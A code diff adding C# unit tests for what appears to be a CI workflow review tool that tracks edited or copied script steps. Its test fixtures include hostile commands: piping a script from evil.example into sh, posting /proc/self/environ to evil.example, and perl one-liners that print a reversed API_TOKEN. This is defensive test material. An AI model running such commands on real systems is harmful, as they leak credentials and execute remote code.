@@ -47,6 +47,12 @@ public sealed partial class ShapedBySupportTests
     [InlineData("echo two\necho one\necho three", "echo three\necho two\necho one")]
     [InlineData("echo one\necho three", "echo zero\necho one\necho three")]
     [InlineData("echo one && echo two || echo three", "echo one && echo two || echo three; echo four")]
+    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}", "perl -w -E say+scalar+reverse+$ENV{API_TOKEN}")]
+    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}", "perl \"-E\" 'say+scalar+reverse+$ENV{API_TOKEN}'")]
+    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}.q{_staging}", "perl -E say+scalar+reverse+$ENV{API_TOKEN}.q{_production}")]
+    [InlineData("printenv", "LC_ALL=C printenv")]
+    [InlineData("curl https://evil.example/run | sh", "curl -fsS \"https://evil.example/run\" -o run && sh run")]
+    [InlineData("echo two\necho three", "echo two\necho three\necho four")]
     public async Task WhatAMemberWritesAroundIt_StaysSupports(string support, string member)
     {
         var own = Yaml.Replace("echo mine", "|\n            echo one\n            echo two\n            echo three\n            echo one || echo two && echo three", StringComparison.Ordinal);
@@ -124,9 +130,39 @@ public sealed partial class ShapedBySupportTests
         Assert.Empty(await OpenAsync());
     }
 
+    /// <summary>What support added and a member renames and edits is known by its words: nothing of it is settled by that.</summary>
+    [Fact]
+    public async Task AWorkflowOfSupports_RenamedAndEdited_StaysSupports()
+    {
+        var added = Yaml + Script("deploy-staging", "curl -d @- https://evil.example/staging < /proc/self/environ");
+        await SaveAsync(_support, added);
+
+        await SaveAsync(_adam, added.Replace("staging", "production", StringComparison.Ordinal));
+
+        Assert.NotNull(await StartAsync("deploy-production"));
+        Assert.NotEmpty(await OpenAsync());
+    }
+
+    /// <summary>What was undone is open again where somebody copies it, in other words too; not where they come to write what many do.</summary>
+    [Theory]
+    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}.q{x}", "perl -w -E say+scalar+reverse+$ENV{API_TOKEN}.q{x}", true)]
+    [InlineData("curl https://evil.example/run | sh", "curl -o run https://evil.example/run", true)]
+    [InlineData("cd ios\nnpm ci\n./gradlew\nif [ -n \"$X\" ]; then\n  echo \"$X\"\nfi", "cd ios\nnpm ci\n./gradlew\nif [ -n \"$X\" ]; then\n  echo \"$X\"\nfi\nnpm test", false)]
+    public async Task WhatWasUndone_IsOpenAgain_WhereItIsCopied(string support, string member, bool opens)
+    {
+        await SaveAsync(_support, Yaml + Script("fix", support).Replace("script@1:\n", "script@1:\n        title: Run all tests\n", StringComparison.Ordinal) + "    - git-clone@8: {}\n");
+        await SettleAsync("undo");
+
+        await SaveAsync(_adam, Yaml + Script("own", member).Replace("script@1:\n", "script@1:\n        title: Run all tests\n", StringComparison.Ordinal) + "    - git-clone@8: {}\n");
+
+        Assert.Equal(opens, await StartAsync("own") is not null);
+        Assert.Equal(opens, (await OpenAsync()).Count > 0);
+    }
+
     /// <summary>An address is code, and a name of any kind is a name.</summary>
     [Theory]
     [InlineData("  fix:\n    steps:\n    - git::https://evil.example/steps/fix.git@main: {}\n", "    - git::https://evil.example/steps/fix.git@main:\n        title: Fix\n")]
+    [InlineData("  fix:\n    steps:\n    - git::https://evil.example/steps/fix.git@v1: {}\n", "    - git::https://evil.example/steps/fix.git@v2: {}\n")]
     [InlineData("  fix:\n    steps:\n    - path::./tools/fix: {}\n", "    - path::./tools/fix:\n        title: Fix\n")]
     [InlineData("  fix:\n    steps:\n    - git::git@evil.example:fix.git@main: {}\n", "    - git::git@evil.example:fix.git@main:\n        title: Fix\n")]
     [InlineData("  fix:\n    steps:\n    - path::fix: {}\n", "    - path::fix:\n        title: Fix\n")]
